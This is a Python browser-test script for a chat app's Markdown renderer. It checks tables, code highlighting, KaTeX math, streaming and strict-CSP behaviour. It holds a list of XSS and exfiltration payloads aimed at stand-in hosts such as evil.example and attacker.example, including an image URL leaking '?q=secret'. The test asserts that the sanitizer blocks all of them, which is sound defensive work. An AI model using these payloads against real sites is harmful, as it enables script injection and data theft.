#!/usr/bin/env python3
"""Browser check of static/js/render.js with the vendored libraries.

Serves static/ with `python -m http.server` on 127.0.0.1, writes two temporary
pages under static/js/ (one without CSP, one with a strict CSP), and drives
Debian's Chromium through Playwright (never downloads a browser):

* Markdown tables, highlighted code blocks with copy buttons, KaTeX math;
* XSS / exfiltration payloads: no script runs, no iframe, no hx-* attribute,
  no <img> for remote images, and no request to any host but 127.0.0.1;
* streaming: growing text with unclosed fences / $$ renders, unchanged text
  does not touch the DOM;
* strict CSP page: no violation, KaTeX layout styles still applied.

Usage: .venv/bin/python scripts/check_render.py [--screenshots DIR]
Exit code 0 when every check passes.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import urlsplit

ROOT = Path(__file__).resolve().parent.parent
STATIC = ROOT / "static"
PAGE = STATIC / "js" / "_tmp_check.html"
PAGE_CSP = STATIC / "js" / "_tmp_check_csp.html"

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; "
    "font-src 'self'; connect-src 'self'; frame-src 'none'; object-src 'none'; base-uri 'none'"
)

DEMO_MD = r"""Here is a **table**, some `inline code`, a [link](https://example.org/docs) and math.

| Model | Params | Notes |
|:------|-------:|-------|
| tiny  | 1.1B   | fast  |
| small | 7B     | $O(n^2)$ attention |

Euler: $e^{i\pi} + 1 = 0$, and inline \(a^2 + b^2 = c^2\). Prices stay text: $5 and $10.

$$\int_0^1 x\,dx = \frac{1}{2}$$

\[ \sum_{n=1}^{\infty} \frac{1}{n^2} = \frac{\pi^2}{6} \]

```python
def greet(name: str) -> str:
    # say hello
    return f"Hello, {name}!"
```

- [x] render Markdown
- [ ] load remote images ![tracker](https://attacker.example/pixel.png)

> Quoted text with `$not math$` in code.
"""

USER_MD = "Can you explain **Euler's identity** and show a Python example?"

PAYLOADS = [
    "<script>window.__x=1</script>",
    '<img src=x onerror="window.__x=2">',
    "[a](javascript:window.__x=3)",
    '<iframe src="https://evil.example/"></iframe>',
    '<div hx-get="/x" hx-trigger="load">h</div>',
    "![](https://attacker.example/?q=secret)",
    '<div data-hx-get="/x" data-hx-trigger="load" ws-send>d</div>',
    '<a href="https://evil.example/" onclick="window.__x=4" hx-post="/y">click</a>',
    '<svg><image href="https://evil.example/a.png"></image></svg><math><mi>x</mi></math>',
    '<table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>',
    '<span style="background:url(https://evil.example/s.png)">styled</span>',
    '<img srcset="https://evil.example/1.png 1x" src="https://evil.example/0.png">',
    '<img src="//evil.example/p.png"><img src="/\\evil.example/q.png"><img src="data:image/png;base64,AAAA">',
    '<video poster="https://evil.example/v.png"></video><audio src="https://evil.example/a.mp3"></audio>',
    '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>body{background:url(https://evil.example/b)}</style>',
    '<a href="jav&#x09;ascript:window.__x=5">tab</a> <a href="data:text/html,<script>alert(1)</script>">data</a>',
    "$\\href{javascript:window.__x=6}{x}$ $\\includegraphics{https://evil.example/k.png}$",
    '<span class="katex" data-thalamus-ks="position:fixed;inset:0">fake</span>',
]


def page_html(csp: bool) -> str:
    meta = f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' if csp else ""
    return f"""<!doctype html>
<html lang="en"><head><meta charset="utf-8">{meta}
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>render.js check</title>
<link rel="stylesheet" href="/vendor/katex/katex.min.css">
<link rel="stylesheet" href="/vendor/highlight/styles/github.min.css" media="(prefers-color-scheme: light)">
<link rel="stylesheet" href="/vendor/highlight/styles/github-dark.min.css" media="(prefers-color-scheme: dark)">
<link rel="stylesheet" href="/css/thalamus.css">
<script src="/vendor/marked/marked.umd.js" defer></script>
<script src="/vendor/dompurify/purify.min.js" defer></script>
<script src="/vendor/katex/katex.min.js" defer></script>
<script src="/vendor/highlight/highlight.min.js" defer></script>
<script src="/js/render.js" defer></script>
</head><body>
<header class="topbar">
  <a class="brand" href="#">&#9673; Thalamus</a>
  <nav><a href="#" aria-current="page">Chat</a><a href="#">Memory</a><a href="#">Graph</a></nav>
  <div class="user-menu"><span class="username">alice</span>
    <form class="inline"><button class="btn btn-ghost btn-sm" type="button">Log out</button></form></div>
</header>
<div class="app">
  <aside class="sidebar">
    <a class="btn btn-primary" href="#">+ New chat</a>
    <input type="search" class="conv-search" placeholder="Search conversations">
    <h2>Recent</h2>
    <ul class="conv-list">
      <li class="active"><a href="#" aria-current="page">Euler's identity explained</a>
        <div class="conv-actions"><button class="btn btn-ghost" type="button" title="Rename">&#9998;</button>
        <button class="btn btn-ghost" type="button" title="Delete">&#128465;</button></div></li>
      <li><a href="#">Trip planning for the Alps in early spring</a></li>
      <li><a href="#">Rust lifetimes</a></li>
    </ul>
  </aside>
  <main class="content">
    <div class="chat">
      <div class="demo-banner"><span class="badge">demo model</span> Replies come from the built-in demo model.</div>
      <div class="messages-list" id="messages">
        <div class="msg msg-user"><div class="msg-body" data-markdown>
          <textarea hidden class="md-src">{USER_MD}</textarea><div class="md-out"></div></div></div>
        <div class="msg msg-assistant" id="demo"><div class="msg-meta">tiny-llama &middot; 12:04</div>
          <div class="msg-body" data-markdown><textarea hidden class="md-src"></textarea><div class="md-out"></div></div>
          <details class="trace"><summary>What I used</summary><ul><li>Memory: "likes Python"</li>
          <li>Conversation: 4 earlier messages</li></ul></details></div>
        <div class="msg msg-assistant failed"><div class="msg-body" data-markdown>
          <textarea hidden class="md-src">I was about to</textarea><div class="md-out"></div></div>
          <div class="msg-error">&#9888; The model server did not answer.
            <button class="btn btn-sm" type="button">Retry</button></div></div>
        <div class="msg msg-assistant cancelled"><div class="msg-body" data-markdown>
          <textarea hidden class="md-src">Partial answer that was</textarea><div class="md-out"></div></div>
          <div class="msg-note">Stopped by you.</div></div>
        <div class="msg msg-assistant streaming" id="stream"><div class="msg-body" data-markdown>
          <textarea hidden class="md-src">Let me think about **this** and</textarea><div class="md-out"></div></div></div>
        <div class="msg msg-assistant"><div class="msg-body"><div class="md-out" id="streamtest"></div></div></div>
        <div id="payloads"></div>
        <div id="local"></div>
      </div>
      <form class="composer"><label class="sr-only" for="c">Message</label>
        <textarea id="c" rows="1" placeholder="Message Thalamus..."></textarea>
        <button class="btn btn-danger" type="button" disabled>Stop</button>
        <button class="btn btn-primary" type="button">Send</button></form>
    </div>
  </main>
</div>
</body></html>
"""


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextlib.contextmanager
def static_server():
    port = free_port()
    proc = subprocess.Popen(
        [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory", str(STATIC)],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.time() + 10
        while True:
            try:
                conn = http.client.HTTPConnection("127.0.0.1", port, timeout=1)
                conn.request("HEAD", "/js/render.js")
                conn.getresponse()
                conn.close()
                break
            except OSError:
                if time.time() > deadline:
                    raise RuntimeError("http.server did not start")
                time.sleep(0.1)
        yield f"http://127.0.0.1:{port}"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=5)
        except subprocess.TimeoutExpired:
            proc.kill()


def chromium_path() -> str:
    path = shutil.which("chromium")
    if not path:
        sys.exit("chromium not found: apt-get update && apt-get install -y chromium")
    return path


class Checker:
    def __init__(self) -> None:
        self.failures: list[str] = []
        self.passed = 0

    def check(self, cond: bool, what: str) -> None:
        if cond:
            self.passed += 1
            print(f"  ok   {what}")
        else:
            self.failures.append(what)
            print(f"  FAIL {what}")


JS_RENDER_HOSTS = """
([payloads, demo]) => {
  document.querySelector('#demo .md-src').textContent = demo;
  window.ThalamusRender.enhance(document.getElementById('demo'));
  window.__cspDemo = window.__csp.slice();
  const box = document.getElementById('payloads');
  for (const p of payloads) {
    const host = document.createElement('div');
    host.setAttribute('data-markdown', '');
    host.className = 'msg-body payload';
    const ta = document.createElement('textarea');
    ta.hidden = true; ta.className = 'md-src'; ta.textContent = p;
    host.appendChild(ta);
    box.appendChild(host);
  }
  const local = document.createElement('div');
  local.setAttribute('data-markdown', '');
  local.innerHTML = '<textarea hidden class="md-src">![local](/static-local.png)</textarea>';
  document.getElementById('local').appendChild(local);
  window.ThalamusRender.enhance(document.body);
}
"""

JS_STREAM = r"""
(full) => {
  const el = document.getElementById('streamtest');
  const R = window.ThalamusRender;
  const errors = [];
  const seen = {pre: false, pending: false};
  for (let i = 1; i <= full.length; i += 3) {
    try {
      R.renderInto(el, full.slice(0, i));
      if (el.querySelector('pre code')) seen.pre = true;
      if (el.querySelector('.math-pending, .katex-display')) seen.pending = true;
    } catch (e) { errors.push(String(e)); }
  }
  R.renderInto(el, full);
  let mutations = 0;
  const mo = new MutationObserver((m) => { mutations += m.length; });
  mo.observe(el, {subtree: true, childList: true, attributes: true, characterData: true});
  R.renderInto(el, full);
  R.renderInto(el, full);
  R.enhance(document.body);
  const records = mo.takeRecords().length;
  mo.disconnect();
  const partial = R.render('Start\n\n```js\nconst a = 1;');
  const partialMath = R.render('Look: $$\\frac{1}{');
  return {errors, seen, mutations: mutations + records,
          partialHasPre: /<pre>[\s\S]*<code class="hljs/.test(partial),
          partialMath: partialMath};
}
"""


def run_checks(base: str, shots: Path | None) -> Checker:
    from playwright.sync_api import sync_playwright

    ck = Checker()
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=chromium_path(),
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        try:
            for csp in (False, True):
                for scheme in ("light", "dark"):
                    label = f"{'csp' if csp else 'plain'}/{scheme}"
                    print(f"[{label}]")
                    ctx = browser.new_context(color_scheme=scheme, viewport={"width": 1280, "height": 900})
                    page = ctx.new_page()
                    requests: list[str] = []
                    console_errors: list[str] = []
                    page.on("request", lambda r: requests.append(r.url))
                    page.on("pageerror", lambda e: console_errors.append(str(e)))
                    page.add_init_script(
                        "window.__csp=[];document.addEventListener('securitypolicyviolation',"
                        "e=>window.__csp.push(e.violatedDirective+' '+e.blockedURI));"
                    )
                    url = f"{base}/js/{(PAGE_CSP if csp else PAGE).name}"
                    page.goto(url, wait_until="load")
                    page.wait_for_function("window.ThalamusRender && window.marked && window.DOMPurify")
                    page.evaluate(JS_RENDER_HOSTS, [PAYLOADS, DEMO_MD])
                    page.wait_for_timeout(600)

                    demo = "#demo .md-out"
                    ck.check(page.locator(f"{demo} table th").count() == 3, "table renders with 3 header cells")
                    ck.check(page.locator(f"{demo} table td").count() == 6, "table has 6 cells")
                    code_cls = page.locator(f"{demo} pre code").first.get_attribute("class") or ""
                    ck.check("hljs" in code_cls and "language-python" in code_cls, f"code block classes: {code_cls}")
                    ck.check(page.locator(f"{demo} pre code .hljs-keyword").count() > 0, "python keywords highlighted")
                    ck.check(page.locator(f"{demo} pre > button.copy-btn").count() == 1, "copy button on the pre")
                    n_katex = page.locator(f"{demo} .katex").count()
                    ck.check(n_katex >= 5, f"math rendered ({n_katex} .katex elements)")
                    ck.check(page.locator(f"{demo} .katex-display").count() == 2, "two display formulas ($$ and \\[)")
                    ann = page.eval_on_selector_all(f"{demo} annotation", "a => a.map(x => x.textContent)")
                    for tex in ["e^{i\\pi} + 1 = 0", "a^2 + b^2 = c^2", "\\int_0^1 x\\,dx = \\frac{1}{2}", "O(n^2)"]:
                        ck.check(tex in ann, f"formula {tex!r} rendered by KaTeX")
                    text = page.inner_text(demo)
                    ck.check("$5 and $10" in text, "currency dollars stay text")
                    ck.check(page.locator(f"{demo} blockquote code").inner_text() == "$not math$", "no math inside code")
                    ck.check(page.locator(f"{demo} .task-box").count() == 2, "task list boxes")
                    link = page.locator(f"{demo} a[href='https://example.org/docs']")
                    ck.check(
                        link.get_attribute("target") == "_blank"
                        and link.get_attribute("rel") == "noopener noreferrer nofollow",
                        "links open in a new tab with rel=noopener noreferrer nofollow",
                    )
                    strut = page.eval_on_selector(f"{demo} .katex :is(.katex-strut, .strut)", "e => e.style.height")
                    ck.check(bool(strut), f"KaTeX inline styles applied (strut height {strut!r})")
                    h = page.eval_on_selector(f"{demo} .katex-display", "e => e.getBoundingClientRect().height")
                    ck.check(h > 30, f"display math laid out ({h:.0f}px high)")

                    # copy button
                    page.locator(f"{demo} pre").first.hover()
                    page.locator(f"{demo} .copy-btn").first.click()
                    page.wait_for_timeout(150)
                    ck.check(page.locator(f"{demo} .copy-btn").first.inner_text() in ("Copied", "Copy failed"),
                             "copy button gives feedback")

                    # security payloads
                    pl = "#payloads"
                    ck.check(page.evaluate("typeof window.__x") == "undefined", "no payload script ran")
                    ck.check(page.locator(f"iframe, object, embed, {pl} form, {pl} input, video, audio, {pl} style, link[href*=evil]").count() == 0,
                             "no iframe/object/embed/form/input/media/style elements")
                    ck.check(page.locator("[hx-get], [hx-post], [data-hx-get], [ws-send], [hx-trigger]").count() == 0,
                             "no hx-*/data-hx-*/ws-* attributes")
                    ck.check(page.locator(f"{pl} img").count() == 0, "no <img> from payloads")
                    ck.check(page.locator(f"{pl} [onerror], {pl} [onclick], [style*=evil]").count() == 0,
                             "no event handlers / styled urls")
                    ck.check(page.locator(f"{pl} a[href^='javascript'], {pl} a[href^='data']").count() == 0,
                             "javascript:/data: links removed")
                    ck.check(page.locator(f"{pl} [background], {pl} [srcset], {pl} svg, {pl} math:not(.katex math)").count() == 0,
                             "no background/srcset attrs, no user svg/math")
                    chips = page.locator(f"{pl} .blocked-image")
                    ck.check(chips.count() >= 4, f"remote images replaced by chips ({chips.count()})")
                    chip_texts = chips.all_inner_texts()
                    ck.check(any("attacker.example/?q=secret" in t for t in chip_texts),
                             "chip shows the blocked URL as text")
                    ck.check(all(c.get_attribute("title") == "External image blocked" for c in chips.all()),
                             "chip title")
                    fixed = page.eval_on_selector_all(f"{pl} span", "ss => ss.filter(s => getComputedStyle(s).position === 'fixed').length")
                    ck.check(fixed == 0, "no attacker-controlled fixed positioning")
                    ck.check(page.locator("#local img[src='/static-local.png']").count() == 1,
                             "same-origin relative image is kept")

                    # streaming
                    res = page.evaluate(JS_STREAM, DEMO_MD)
                    ck.check(not res["errors"], f"streaming renders without errors {res['errors'][:2]}")
                    ck.check(res["seen"]["pre"] and res["seen"]["pending"], "partial fences/math render while streaming")
                    ck.check(res["mutations"] == 0, f"re-rendering unchanged text touches nothing ({res['mutations']})")
                    ck.check(res["partialHasPre"], "unclosed code fence renders as highlighted code")
                    ck.check("math-pending" in res["partialMath"] or "katex" in res["partialMath"],
                             "unclosed $$ renders sensibly")

                    # htmx-style swap event triggers enhance
                    swapped = page.evaluate(
                        """() => { const d = document.createElement('div');
                        d.innerHTML = '<div data-markdown><textarea hidden class="md-src">**swapped** $x$</textarea></div>';
                        document.getElementById('payloads').appendChild(d);
                        d.dispatchEvent(new CustomEvent('htmx:afterSwap', {bubbles: true, detail: {target: d}}));
                        return d.querySelector('.md-out strong') !== null && d.querySelector('.md-out .katex') !== null; }"""
                    )
                    ck.check(swapped, "htmx:afterSwap enhances new content (creates .md-out)")

                    page.wait_for_timeout(300)
                    foreign = sorted({u for u in requests if urlsplit(u).hostname != "127.0.0.1"})
                    ck.check(not foreign, f"no request to another host {foreign}")
                    ck.check(not console_errors, f"no page errors {console_errors[:2]}")
                    if csp:
                        demo_v = page.evaluate("window.__cspDemo")
                        ck.check(not demo_v, f"no CSP violation while rendering Markdown/code/math {demo_v[:3]}")
                        # The payloads' own inline handlers/styles are reported by Chromium when
                        # DOMPurify parses them in its inert document; none may be a fetch.
                        other = [v for v in page.evaluate("window.__csp") if not v.endswith(" inline")]
                        ck.check(not other, f"no CSP-blocked fetch attempts {other[:3]}")

                    if shots:
                        page.evaluate("() => document.getElementById('payloads').scrollIntoView()")
                        page.evaluate("() => document.getElementById('messages').scrollTop = 0")
                        out = shots / f"render-{'csp-' if csp else ''}{scheme}.png"
                        page.screenshot(path=str(out))
                        page.set_viewport_size({"width": 420, "height": 860})
                        page.screenshot(path=str(shots / f"render-{'csp-' if csp else ''}{scheme}-narrow.png"))
                        page.evaluate("() => document.getElementById('payloads').scrollIntoView()")
                        page.set_viewport_size({"width": 1280, "height": 900})
                        page.evaluate("() => document.getElementById('payloads').scrollIntoView()")
                        page.screenshot(path=str(shots / f"render-{'csp-' if csp else ''}{scheme}-payloads.png"))
                    ctx.close()
        finally:
            browser.close()
    return ck


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--screenshots", type=Path, default=Path("/tmp"), help="directory for screenshots ('' to skip)")
    args = ap.parse_args()
    shots = args.screenshots if str(args.screenshots) else None
    if shots:
        shots.mkdir(parents=True, exist_ok=True)
    PAGE.write_text(page_html(csp=False), encoding="utf-8")
    PAGE_CSP.write_text(page_html(csp=True), encoding="utf-8")
    try:
        with static_server() as base:
            ck = run_checks(base, shots)
    finally:
        for f in (PAGE, PAGE_CSP):
            with contextlib.suppress(FileNotFoundError):
                os.remove(f)
    print(f"{ck.passed} passed, {len(ck.failures)} failed")
    if shots:
        print(f"screenshots in {shots}/render-*.png")
    return 1 if ck.failures else 0


if __name__ == "__main__":
    sys.exit(main())
